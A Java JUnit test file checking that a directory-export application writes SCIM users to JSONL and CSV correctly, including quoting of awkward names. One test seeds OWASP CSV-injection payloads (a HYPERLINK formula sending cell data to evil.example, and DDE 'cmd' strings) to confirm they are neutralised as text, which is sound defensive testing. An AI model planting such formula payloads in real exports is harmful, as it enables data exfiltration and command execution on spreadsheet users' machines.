package dev.lucidscim.examples.export;

import java.io.IOException;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.lucidscim.examples.support.LucidTarget;
import dev.lucidscim.examples.support.RunToCompletion;
import dev.lucidscim.model.ScimSchemas;
import dev.lucidscim.simulator.LucidScimSimulator;
import org.apache.camel.main.Main;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The export route under Camel Main, as the application starts it, against the simulator seeded with the HR
 * example's directory plus a few users chosen to trip a careless writer. The file is checked against the simulator's
 * own state, not against what the component returned.
 */
@Timeout(60)
class DirectoryExportTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path folder;

    private final LucidTarget target = LucidTarget.simulated(DirectoryExportApp.SEED);
    private final LucidScimSimulator lucid = target.simulator().orElseThrow();

    @BeforeEach
    void addAwkwardUsers() {
        lucid.seedUser("""
                {"userName": "zoe.quote@example.com", "externalId": "E-\\"7\\", the seventh",
                 "name": {"givenName": "Zoë", "familyName": "O'Brien, Jr."},
                 "title": "Head of \\"Data\\",\\nAnalytics; Reporting",
                 "emails": [{"value": "zoe.other@example.com", "type": "home"},
                            {"value": "zoe.quote@example.com", "type": "work", "primary": true}],
                 "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {"department": "Δ Research"}}""");
        lucid.seedUser("""
                {"userName": "bare@example.com", "emails": [{"value": "bare@example.com"}]}""");
        lucid.seedUser("""
                {"userName": "gone@example.com", "active": false, "emails": [{"value": "gone@example.com"}]}""");
    }

    @AfterEach
    void stopSimulator() {
        target.close();
    }

    @Test
    void jsonLinesHoldEveryActiveUserOnceExactlyAsLucidHasThem() throws Exception {
        Path file = exportOnce(ExportFormat.JSONL);

        List<JsonNode> lines = new ArrayList<>();
        for (String line : Files.readAllLines(file, StandardCharsets.UTF_8)) {
            lines.add(JSON.readTree(line));
        }
        Map<String, JsonNode> expected = activeUsersById();
        assertThat(lines).extracting(line -> line.path("id").asText())
                .doesNotHaveDuplicates().containsExactlyInAnyOrderElementsOf(expected.keySet());
        for (JsonNode line : lines) {
            JsonNode user = expected.get(line.path("id").asText());
            assertThat(comparable(line)).as(line.path("userName").asText()).isEqualTo(comparable(user));
        }
    }

    @Test
    void csvHasOneRowPerActiveUserWithTheRightColumns() throws Exception {
        List<CSVRecord> rows = readCsv(exportOnce(ExportFormat.CSV));

        Map<String, JsonNode> expected = activeUsersById();
        assertThat(rows).extracting(row -> row.get("id"))
                .doesNotHaveDuplicates().containsExactlyInAnyOrderElementsOf(expected.keySet());
        for (CSVRecord row : rows) {
            JsonNode user = expected.get(row.get("id"));
            assertThat(row.toMap()).as(row.get("userName")).containsExactlyInAnyOrderEntriesOf(Map.of(
                    "id", user.path("id").asText(),
                    "userName", user.path("userName").asText(),
                    "active", "true",
                    "givenName", user.path("name").path("givenName").asText(""),
                    "familyName", user.path("name").path("familyName").asText(""),
                    "email", primaryEmail(user),
                    "title", user.path("title").asText(""),
                    "department", user.path(ScimSchemas.ENTERPRISE_USER).path("department").asText(""),
                    "externalId", user.path("externalId").asText("")));
        }
        CSVRecord awkward = row(rows, "zoe.quote@example.com");
        assertThat(awkward.get("title")).isEqualTo("Head of \"Data\",\nAnalytics; Reporting");
        assertThat(awkward.get("email")).isEqualTo("zoe.quote@example.com");
    }

    @Test
    void csvCellsThatWouldStartAFormulaAreWrittenAsText() throws Exception {
        // OWASP's CSV injection examples, one per character a spreadsheet reads as the start of a formula
        lucid.seedUser("""
                {"userName": "formula@example.com", "externalId": "\\t=1+2",
                 "name": {"givenName": "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Details\\")",
                          "familyName": "+cmd|' /C calc'!A0"},
                 "title": "-2+3+cmd|' /C calc'!A0",
                 "emails": [{"value": "formula@example.com"}],
                 "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {"department": "@SUM(1+9)"}}""");
        lucid.seedUser("""
                {"userName": "cr@example.com", "title": "\\r=1+2", "emails": [{"value": "cr@example.com"}]}""");

        List<CSVRecord> rows = readCsv(exportOnce(ExportFormat.CSV));

        assertThat(row(rows, "formula@example.com").toMap()).containsAllEntriesOf(Map.of(
                "givenName", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")",
                "familyName", "'+cmd|' /C calc'!A0",
                "title", "'-2+3+cmd|' /C calc'!A0",
                "department", "'@SUM(1+9)",
                "externalId", "'\t=1+2",
                "email", "formula@example.com"));
        assertThat(row(rows, "cr@example.com").get("title")).isEqualTo("'\r=1+2");
    }

    private static CSVRecord row(List<CSVRecord> rows, String userName) {
        return rows.stream().filter(row -> row.get("userName").equals(userName)).findFirst().orElseThrow();
    }

    /** The export's rows, read back with Commons CSV, after checking its header. */
    private static List<CSVRecord> readCsv(Path file) throws IOException {
        try (Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8);
             CSVParser parser = CSVParser.builder().setReader(reader)
                     .setFormat(CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()).get()) {
            assertThat(parser.getHeaderNames()).containsExactly("id", "userName", "active", "givenName",
                    "familyName", "email", "title", "department", "externalId");
            return parser.getRecords();
        }
    }

    /** Runs the application's export once into the test's folder and returns the one file it wrote. */
    private Path exportOnce(ExportFormat format) throws Exception {
        Main main = DirectoryExportApp.exporter(target);
        main.addOverrideProperty("export.format", format.extension());
        main.addOverrideProperty("export.folder", folder.toString());
        main.addOverrideProperty("export.runs", "1");
        RunToCompletion.run(main);

        // one page of 100 after another until every active user was read, and not one request more
        assertThat(lucid.requests().count("GET", "/Users"))
                .isEqualTo((lucid.activeUserCount() + 99) / 100);
        try (Stream<Path> files = Files.list(folder)) {
            List<Path> written = files.toList();
            assertThat(written).singleElement().satisfies(file -> assertThat(file.getFileName().toString())
                    .matches("lucid-users-\\d{8}-\\d{6}\\." + format.extension()));
            return written.get(0);
        }
    }

    /** What Lucid lists: the active users; the seed holds one deactivated user and the test adds another. */
    private Map<String, JsonNode> activeUsersById() {
        Map<String, JsonNode> active = new LinkedHashMap<>();
        lucid.users().stream().filter(user -> user.path("active").asBoolean(true))
                .forEach(user -> active.put(user.path("id").asText(), user));
        assertThat(lucid.userCount() - active.size()).isEqualTo(2);
        assertThat(active).hasSizeGreaterThan(200);
        return active;
    }

    private static String primaryEmail(JsonNode user) {
        JsonNode emails = user.path("emails");
        for (JsonNode email : emails) {
            if (email.path("primary").asBoolean()) {
                return email.path("value").asText();
            }
        }
        return emails.path(0).path("value").asText("");
    }

    /**
     * The user without what may rightly differ: meta.location names the URL a user was read from, which only the
     * listing knows, and the model writes an instant in its shortest form (.120Z as .12Z).
     */
    private static JsonNode comparable(JsonNode user) {
        ObjectNode copy = user.deepCopy();
        ObjectNode meta = copy.withObjectProperty("meta");
        meta.remove("location");
        for (String instant : List.of("created", "lastModified")) {
            meta.put(instant, Instant.parse(meta.path(instant).asText()).toString());
        }
        return copy;
    }
}
